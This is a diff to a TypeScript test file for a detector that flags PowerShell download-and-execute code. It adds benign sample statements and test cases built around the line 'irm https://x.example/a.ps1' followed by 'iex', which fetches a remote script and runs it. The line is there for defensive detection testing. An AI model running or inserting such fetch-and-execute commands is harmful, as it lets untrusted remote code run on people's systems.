@@ -14,3 +14,23 @@ it("quotes of PowerShell that a shell would leave open are no limit", async () =
   const { spans, outcome } = detector.detect(`\`\`\`powershell\n${loader.join("\n")}\n\`\`\`\n`);
   expect([spans.length, outcome]).toEqual([1, { status: "complete" }]);
 });
+
+/** Statements that the grammar refuses, and one that it takes beside each. */
+const refused = [
+  "Get-Process | Select-Object Name, Id",
+  "if ($size -gt 4GB) { $size }",
+  ":next foreach ($a in $list) { break next }",
+  "Get-ChildItem $HOME/a.b -Force",
+  'Write-Host "$a#$b"',
+  '"Free: $($disk / 1GB)"',
+  "$d = $a - $b",
+];
+
+it.each(refused)("%s is read, and what stands behind it", async (statement) => {
+  const detector = await createNodeDetector({ profile: "extended" });
+  const script = (run: string): string => `\`\`\`powershell\n${statement}\n${run}\n\`\`\`\n`;
+  const found = detector.detect(script("$c = irm https://x.example/a.ps1\niex $c"));
+  expect([found.labels, found.outcome]).toEqual([["PS"], { status: "complete" }]);
+  const harmless = detector.detect(script("$c = irm https://x.example/a.ps1\necho $c"));
+  expect([harmless.labels, harmless.outcome]).toEqual([[], { status: "complete" }]);
+});
